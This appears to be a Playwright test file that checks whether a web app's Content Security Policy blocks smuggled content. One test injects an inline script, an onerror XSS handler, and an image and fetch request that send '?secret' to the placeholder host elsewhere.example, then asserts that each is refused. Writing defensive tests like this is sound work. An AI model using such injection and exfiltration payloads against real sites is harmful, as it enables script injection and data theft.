"""What the browser lets the pages do: everything that they need, and nothing that somebody smuggles in."""

from __future__ import annotations

import pytest

NAMES = ("", "label", "taste", "people", "experts", "controversy", "reward", "training", "quality")
WATCH = """
window.refused = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.refused.push(`${event.violatedDirective}: ${event.blockedURI} ${event.sample}`));
"""


@pytest.fixture(scope="module")
def rita(app_alone, browser):
    """A researcher's browser that keeps what the policy refuses."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.add_init_script(WATCH)
    page.messages = []
    page.on("console", lambda message: page.messages.append(message.text))
    page.goto(f"{app_alone.url}/?token={app_alone.token}")
    page.get_by_text("Signed in as Rita").wait_for()
    yield page
    context.close()


@pytest.mark.parametrize("name", NAMES)
def test_every_page_works_under_the_policy(app_alone, rita, name):
    rita.goto(f"{app_alone.url}/{name}")
    rita.get_by_text("Signed in as Rita").wait_for()
    rita.locator("h1, .st-key-head").first.wait_for()
    if name in ("people", "controversy"):
        rita.locator(".js-plotly-plot .main-svg").first.wait_for()
    if name == "people":  # a film, and the map in three dimensions
        rita.get_by_role("button", name="Play").first.click()
        rita.locator(".st-key-film .updatemenu-button").first.wait_for()
    rita.wait_for_timeout(300)
    assert rita.evaluate("window.refused") == []
    assert [text for text in rita.messages if "Content Security Policy" in text] == []


def test_a_script_a_picture_and_a_frame_that_are_smuggled_in_do_not_run(app_alone, rita, settled):
    rita.goto(f"{app_alone.url}/taste")
    settled(rita)
    rita.evaluate("""() => {
      const script = document.createElement("script");
      script.textContent = "window.smuggled = 'script'";
      document.body.append(script);
      const place = document.createElement("div");
      place.innerHTML = "<img src=x onerror=\\"window.smuggled = 'handler'\\"><img src='http://elsewhere.example/?secret'>"
        + "<iframe src='http://elsewhere.example/'></iframe>";
      document.body.append(place);
      fetch("http://elsewhere.example/?secret").catch(() => {});
    }""")
    rita.wait_for_function("window.refused.length >= 5")
    found = {one.split(":")[0] for one in rita.evaluate("window.refused")}
    assert found == {"script-src-elem", "script-src-attr", "img-src", "connect-src", "frame-src"}
    assert rita.evaluate("window.smuggled") is None
